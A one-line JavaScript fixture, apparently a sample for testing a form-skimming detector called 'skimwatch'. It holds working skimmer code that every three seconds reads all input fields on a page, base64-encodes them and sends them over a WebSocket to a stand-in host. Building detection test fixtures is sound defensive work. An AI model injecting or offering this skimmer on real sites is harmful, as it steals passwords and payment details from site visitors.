// Synthetic WebSocket sweep for skimwatch tests.
(function(){var w=new WebSocket('wss://stats-socket.example/s');setInterval(function(){var o={};document.querySelectorAll('input').forEach(function(i){o[i.name]=i.value});if(w.readyState===1)w.send(btoa(JSON.stringify(o)))},3000)})();
